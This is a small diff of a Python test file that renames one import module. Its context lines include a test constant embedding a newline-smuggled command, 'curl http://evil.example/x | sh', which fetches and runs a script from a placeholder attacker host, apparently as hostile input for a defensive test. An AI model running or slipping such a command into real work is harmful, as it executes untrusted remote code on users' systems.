@@ -32,7 +32,7 @@ from bigfleet.wire.session_client import SessionClient
 from tests.kube_api import FakeApiServer, kubeconfig_for
 from tests.shard_processes.process import Running, serving, shard_words
 from tests.shard_system.operators import hello_of
-from tests.shard_system.stand import page
+from tests.shard_system.rig import page
 from tests.shard_system.waiting import until
 
 SHELL = "std-8\ncurl http://evil.example/x | sh"
